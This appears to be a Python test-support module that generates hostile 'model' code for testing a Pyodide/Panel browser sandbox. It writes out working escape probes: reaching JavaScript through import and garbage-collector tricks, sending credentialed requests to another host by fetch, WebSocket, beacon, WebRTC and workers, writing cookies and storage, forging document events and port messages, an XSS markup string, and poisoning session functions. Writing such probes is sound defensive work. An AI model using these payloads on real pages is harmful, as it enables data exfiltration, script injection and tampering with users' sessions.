"""What a model in a link could try, as Python that runs with the text.

Every probe has a name that stands in whatever it reaches, so that a log tells which one it was.
"""

from __future__ import annotations

from dataclasses import dataclass

from core.texts import LEAKY

# What all probes have: the ways out, tried one after the other by whoever has got hold of `js`.
TOOLS = '''
import asyncio, gc, importlib, sys

OTHER, HOME = {other!r}, {home!r}
CALLS = (
    "fetch", "xhr", "websocket", "eventsource", "beacon", "worker", "scripts", "rtc", "load",
)


def reach(js, name, *only):
    """Ask the other host, and the host of the page, by every means that there is."""
    for way in only or CALLS:
        for host in (OTHER, HOME):
            try:
                WAYS[way](js, f"{{host}}private/?probe={{name}}-{{way}}")
            except BaseException:
                pass


def xhr(js, url):
    request = js.XMLHttpRequest.new()
    request.open("GET", url, False)
    request.withCredentials = True
    request.send()


def rtc(js, url):
    to_js = importlib.import_module("pyodide.ffi").to_js
    port = url.split(":")[2].split("/")[0]
    servers = to_js({{"iceServers": [{{"urls": f"stun:127.0.0.1:{{port}}"}}]}},
                    dict_converter=js.Object.fromEntries)
    peer = js.RTCPeerConnection.new(servers)
    peer.createDataChannel(url)
    peer.createOffer().then(peer.setLocalDescription.bind(peer))


def worker(js, url):
    text = f"fetch({{url!r}}); importScripts({{url!r}})"
    js.Worker.new(js.URL.createObjectURL(js.Blob.new(js.Array.of(text))))


WAYS = {{
    "fetch": lambda js, url: js.fetch(url),
    "xhr": xhr,
    "websocket": lambda js, url: js.WebSocket.new(url.replace("http", "ws")),
    "eventsource": lambda js, url: js.EventSource.new(url),
    "beacon": lambda js, url: js.navigator.sendBeacon(url, "x"),
    "worker": worker,
    "scripts": lambda js, url: js.importScripts(url),
    "rtc": rtc,
    "load": lambda js, url: importlib.import_module("pyodide_js").loadPackage(url),
}}


def javascript():
    return importlib.import_module("js")


def session():
    return sys.modules["neuron_page.session"]
'''


@dataclass(frozen=True)
class Probe:
    """One thing that is tried.

    Attributes
    ----------
    name : str
        Stands in what it would reach.
    code : str
        Python; what it raises is of no interest.
    """

    name: str
    code: str


def _by(way: str) -> str:
    return f'reach({way}, "NAME")'


def _asking(*ways: str) -> str:
    return f'reach(javascript(), "NAME", *{ways!r})'


# To JavaScript, and from there by every way there is.
WAYS_TO_JAVASCRIPT = (
    Probe("import", "import js\n" + _by("js")),
    Probe("importlib", _by('importlib.import_module("js")')),
    Probe("modules", _by('sys.modules["js"]')),
    Probe("builtin_import", "import builtins\n" + _by('builtins.__import__("js")')),
    Probe("pyodide_js", _by('importlib.import_module("pyodide_js")._api.config.jsglobals')),
    Probe("run_js", _by('importlib.import_module("pyodide.code").run_js("globalThis")')),
    Probe("core", _by('importlib.import_module("_pyodide_core").jsglobals')),
    Probe("garbage", "for one in gc.get_objects():\n    reach(one, 'NAME', 'fetch', 'xhr')"
          " if type(one).__name__ == 'JsProxy' else None"),
    Probe("subclasses", "for one in object.__subclasses__():\n"
          "    reach(sys.modules.get(one.__module__), 'NAME', 'fetch', 'xhr')"),
    Probe("panel", _by('sys.modules["panel.io.pyodide"].js')),
    Probe("open_url", 'importlib.import_module("pyodide.http").open_url(f"{OTHER}?probe=NAME")'),
    Probe("pyfetch", 'asyncio.ensure_future('
          'importlib.import_module("pyodide.http").pyfetch(f"{OTHER}?probe=NAME"))'),
    Probe("urllib", 'importlib.import_module("urllib.request").urlopen(f"{OTHER}?probe=NAME")'),
    Probe("socket", 'importlib.import_module("socket").create_connection('
          '("127.0.0.1", int(OTHER.split(":")[2].strip("/"))), 2).send(b"GET /?probe=NAME")'),
)  # fmt: skip
# To the network, each by itself.
WAYS_OUT = (
    Probe("fetch", _asking("fetch")),
    Probe("xhr", _asking("xhr")),
    Probe("websocket", _asking("websocket")),
    Probe("eventsource", _asking("eventsource")),
    Probe("beacon", _asking("beacon")),
    Probe("rtc", _asking("rtc")),
    Probe("nested_worker", _asking("worker")),
    Probe("scripts", _asking("scripts")),
    Probe("load_package", _asking("load")),
    Probe("code_from_text", 'javascript().Function.new(f"fetch(\'{OTHER}?probe=NAME\')")()'),
    Probe("timer_from_text", 'javascript().setTimeout(f"fetch(\'{OTHER}?probe=NAME\')", 0)'),
    Probe("module_by_address", 'importlib.import_module("pyodide_js")._module.API.'
          'loadScript(f"{OTHER}?probe=NAME")'),
    Probe("frame_worker", 'javascript().postMessage("NAME")'),
    Probe("navigation", "js = javascript()\n"
          'for one in (js.location, js.self, getattr(js, "parent", js)):\n'
          "    try:\n"
          '        one.href = one.location = f"{OTHER}?probe=NAME"\n'
          "    except BaseException:\n"
          "        pass"),
)  # fmt: skip
# To what the browser keeps for the page's origin.
STORES = (
    Probe("databases", 'javascript().indexedDB.open("probe-NAME")'),
    Probe("caches", 'javascript().caches.open("probe-NAME")'),
    Probe("local", 'javascript().localStorage.setItem("probe-NAME", "x")'),
    Probe("cookie_store", 'javascript().cookieStore.set("probe-NAME", "x")'),
    Probe("cookie", 'javascript().document.cookie = "probe-NAME=x"'),
    Probe("files", 'javascript().navigator.storage.getDirectory().then('
          'lambda root: root.getDirectoryHandle("probe-NAME", create=True))'),
    Probe("locks", 'javascript().navigator.locks.request("probe-NAME", '
          'lambda lock: javascript().Promise.new(lambda *_: None))'),
    Probe("channel", 'javascript().BroadcastChannel.new("probe").postMessage("NAME")'),
)  # fmt: skip
# What Python does not come back from, so it stands alone.
BREAKING = (
    Probe("ctypes", 'importlib.import_module("ctypes").CDLL(None).emscripten_run_script('
          'f"fetch(\'{OTHER}?probe=NAME\')".encode())'),
)  # fmt: skip
QUIET = (*WAYS_TO_JAVASCRIPT, *WAYS_OUT, *STORES)

# What the page would have to believe. Each ends its Python, so each is a text of its own. These are
# tried in every browser, the others in one.
EVERYWHERE = ("div", "location", "kind")
SEND = "\nsession()._answer._send(json.dumps({{'events': [{event}]}}), javascript().Map.new())"
_ROOT = "session().state.curdoc.roots[0].ref['id']"


def _event(event: str) -> str:
    return "import json" + SEND.format(event=event)


def _child(model: str) -> str:
    new = f"'attr': 'children', 'new': [{model}]"
    return _event(f"{{'kind': 'ModelChanged', 'model': {{'id': {_ROOT}}}, {new}}}")


_LOCATION = (
    "[one for one in session().state.curdoc.roots if type(one).__name__ == 'Location'][0].ref['id']"
)
_PORT = """
create_proxy = importlib.import_module("pyodide.ffi").create_proxy
js = javascript()
plain = js.MessagePort.prototype.postMessage
def taken(port, *_):
    for message in ({messages}):
        plain.call(port, js.JSON.parse(message))
js.MessagePort.prototype.postMessage = create_proxy(taken, capture_this=True)
"""
FORGED = (
    Probe("root", _event("{'kind': 'RootAdded', 'setter': None, 'model': {'type': 'object', "
          "'name': 'Div', 'id': 'p99999', 'attributes': {'text': 'OWNED'}}}")),
    Probe("div", _child("{'type': 'object', 'name': 'Div', 'id': 'p99999', "
          "'attributes': {'text': 'OWNED'}}")),
    Probe("location", _event(f"{{'kind': 'ModelChanged', 'model': {{'id': {_LOCATION}}}, "
          "'attr': 'pathname', 'new': OTHER + '?probe=NAME'}")),
    Probe("new_location", _child("{'type': 'object', 'name': 'panel.models.location.Location', "
          "'id': 'p99999', 'attributes': {'pathname': '//OWNED'}}")),
    Probe("script", _child("{'type': 'object', 'name': 'CustomJS', 'id': 'p99999', "
          "'attributes': {'code': 'OWNED'}}")),
    Probe("style", _event(f"{{'kind': 'ModelChanged', 'model': {{'id': {_ROOT}}}, "
          "'attr': 'stylesheets', 'new': [':host { position: fixed; inset: 0 } /* OWNED */']}")),
    Probe("place", _event(f"{{'kind': 'ModelChanged', 'model': {{'id': {_ROOT}}}, "
          "'attr': 'margin', 'new': [-5000, 0]}")),
    Probe("no_json", "session()._answer._send('{' * 9, javascript().Map.new())"),
    Probe("huge", "session()._answer._send('[' + '0,' * 30_000_000, javascript().Map.new())"),
    Probe("kind", _PORT.format(messages="""'{"type": "navigate", "to": "OWNED"}',""")),
    Probe("shape", _PORT.format(messages="""'{"type": "progress", "done": "OWNED"}',""")),
    Probe("prototype", _PORT.format(messages="""'{"type": "__proto__"}',""")),
    Probe("document", _PORT.format(
          messages="""'{"type": "document", "fingerprint": "OWNED"}',""")),
    Probe("entry", _PORT.format(messages="""'{"type": "own", "answer": '
          '"{\\\\"ok\\\\": true, \\\\"name\\\\": \\\\"lif\\\\", \\\\"entry\\\\": {}}"}',""")),
)  # fmt: skip
# Markup is taken, but only what the app itself could have written is left of it.
MARKUP = Probe(
    "markup",
    "import html\n"
    "model = next(iter(session()._app._remark._models.values()))[0].ref['id']\n"
    "text = html.escape(\"<p>OWNED <a href='javascript:alert(1)'>link</a>"
    "<img src=x onerror=alert(1)><style>body { display: none }</style>"
    "<p style='position: fixed; inset: 0' onclick='alert(1)' class='warning'>words</p>\")\n"
    + _event("{'kind': 'ModelChanged', 'model': {'id': model}, 'attr': 'text', 'new': text}"),
)
# Not for now, but for what is saved later.
POISON = Probe(
    "poison",
    "session().script = lambda *_: 'OWNED'\n"
    "session().figure = lambda *_: b'OWNED'\n"
    "session().run_data = lambda *_: None\n"
    "importlib.import_module('neuron_app.script').script = lambda *_, **__: 'OWNED'\n"
    "importlib.import_module('spiking_core').MODELS.clear()",
)


def model_with(*probes: Probe, other: str, home: str, fails: bool = False) -> str:
    """Return the text of a model that tries something, and then runs, or fails."""
    parts = [TOOLS.format(other=other, home=home)]
    for probe in probes:
        body = "\n".join(f"        {line}" for line in probe.code.splitlines())
        body = body.replace("NAME", probe.name)
        parts.append(f"def probe_{probe.name}():\n    try:\n{body}\n    except BaseException:")
        parts.append(f"        pass\n\n\nprobe_{probe.name}()")
    end = "raise ValueError('enough')" if fails else ""
    return "\n".join([LEAKY.partition("\n")[0], *parts, LEAKY.partition("\n")[2], end])
